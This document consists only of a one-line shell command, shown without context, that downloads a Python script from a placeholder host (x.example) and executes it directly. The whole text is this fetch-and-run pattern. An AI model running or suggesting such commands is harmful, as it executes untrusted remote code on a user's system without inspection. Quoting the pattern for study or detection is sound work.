python3 -c "$(curl -s http://x.example/p.py)"
